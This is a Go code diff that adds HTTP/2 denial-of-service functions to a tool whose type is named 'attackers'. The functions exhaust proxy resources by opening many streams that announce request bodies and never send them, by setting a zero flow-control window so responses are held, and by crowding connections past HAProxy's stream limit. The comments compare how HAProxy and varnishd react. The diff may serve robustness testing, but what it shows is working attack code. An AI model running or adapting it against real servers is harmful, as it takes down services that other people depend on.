@@ -138,6 +138,42 @@ func closeWhenReset(c net.Conn, framer *http2.Framer, streams int) {
 	}
 }
 
+// Bodies are announced on as many streams as a few connections have, and never come.
+func h2Bodies(ctx context.Context, a *attackers) {
+	head := encode(h2Request("POST", "https", rotatingHost, "/", hpack.HeaderField{Name: "content-length", Value: "10000"}))
+	a.crowd(ctx, nil, func(framer *http2.Framer, stream uint32) error {
+		if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head, EndHeaders: true}); err != nil {
+			return err
+		}
+		return framer.WriteData(stream, false, []byte("x"))
+	})
+}
+
+// Small responses are asked for on as many streams, and no window is ever opened for them: HAProxy keeps them, and varnishd is done with them at once.
+func h2NoWindow(ctx context.Context, a *attackers) {
+	head := headerBlock(rotatingHost, "/")
+	a.crowd(ctx, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, func(framer *http2.Framer, stream uint32) error {
+		return framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head, EndStream: true, EndHeaders: true})
+	})
+}
+
+// crowd holds three connections with more streams on each than HAProxy allows: those that end make room for the others.
+func (a *attackers) crowd(ctx context.Context, settings []http2.Setting, open func(framer *http2.Framer, stream uint32) error) {
+	a.held(ctx, 3, func() {
+		c, framer, err := a.dialH2(ctx, rotatingHost, settings...)
+		if err != nil {
+			return
+		}
+		defer c.Close()
+		for stream := uint32(1); stream < 2*79; stream += 2 {
+			if err := open(framer, stream); err != nil {
+				return
+			}
+		}
+		a.wait(ctx, c)
+	})
+}
+
 // h2 holds eight connections of HTTP/2, on each of which something is done five hundred times a second with the number of the next stream.
 func (a *attackers) h2(ctx context.Context, do func(framer *http2.Framer, stream uint32) error) {
 	a.held(ctx, 8, func() { a.flood(ctx, do) })
